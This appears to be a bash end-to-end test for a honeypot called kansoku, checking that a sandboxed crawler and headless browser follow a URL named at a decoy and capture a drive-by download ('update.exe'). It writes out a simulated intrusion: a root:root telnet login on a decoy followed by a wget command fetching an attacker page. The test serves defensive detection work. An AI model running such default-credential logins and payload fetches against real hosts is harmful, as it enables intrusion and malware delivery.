#!/bin/bash
# A page that a command at a decoy names is visited by the crawl and then, since it has scripts, by browsers: from
# the sandboxed process "visit", within the decision that allowed it.
. "$(dirname "$0")/lib.sh"
two_networks
for tool in bwrap chromium-headless-shell; do
	[ -n "$(command -v $tool)" ] || skip "$tool is missing"
done
HERE=203.0.113.10 OTHER=203.0.113.11
ip netns exec $OUTSIDE python3 tests/e2e/visit_pages.py $HERE $OTHER 80 >"$WORK/program" & SERVERS=$!
for _ in $(seq 50); do [ -s "$WORK/program" ] && break; sleep 0.1; done
loopback_config <<EOT
operator: {name: Test CSIRT, contact: abuse@example.org}
store: {linger: 50ms}
passive:
  workers: 1
  decoys: [{prefix: 192.0.2.0/25, personas: [router]}]
  services: {telnet: {ports: [23]}}
active:
  scope: [{prefix: 203.0.113.0/24, special: allow}]
  addresses: [198.51.100.9]
  hold_out: 0
visit: {ways: [crawl, browser], time: 60s}
control: {silent_decoys: 0}
rules: [{on: command.sent, do: visit, delay: 0s, name: named}]
EOT
start_kansoku
intrude_from 203.0.113.77 192.0.2.7 root root "wget http://$HERE/start" >/dev/null
stored() { # every event of the chain, a line each, its fields between bars
	query "SELECT kind, service, arrayStringConcat(arrayMap((f, v) -> concat('|', f, '=', v, '|'), field, value), '') FROM log
		WHERE kind IN ('decision.made', 'page.visited', 'file.captured')" 2>/dev/null | tr '\t' ' '
}
for _ in $(seq 60); do
	stored >"$WORK/known"
	grep -q "^file.captured browser" "$WORK/known" && break
	sleep 0.3
done
page=$(grep "^page.visited browser" "$WORK/known") || fail "no browser visited the page: $(cat "$WORK/known")"
for wanted in 'detail=malicious' 'drive-by' "page.url=http://$HERE/start" "page.final=http://$HERE/land" 'report.sha256='; do
	grep -qF "$wanted" <<<"$page" || fail "the visit lacks $wanted: $page"
done
grep "^file.captured browser" "$WORK/known" | grep -qF "file.url=http://$HERE/update.exe" || fail "the program that the page gave is not told: $(cat "$WORK/known")"
[ "$(query "SELECT count() FROM log WHERE kind = 'file.captured' AND file_sha256 = '$(cat "$WORK/program")'")" -ge 1 ] || fail "it is another program"
visit_pid=$(role_pid visit)
grep -q '^Seccomp:	2' /proc/$visit_pid/status || fail "the process that visits is not sandboxed"
stop_kansoku || fail "it did not stop in order"
[ -z "$(pgrep -P $$ -f headless-shell)" ] || fail "a browser is left"
echo "visit_rule: a page named at a decoy was seen through by browsers"
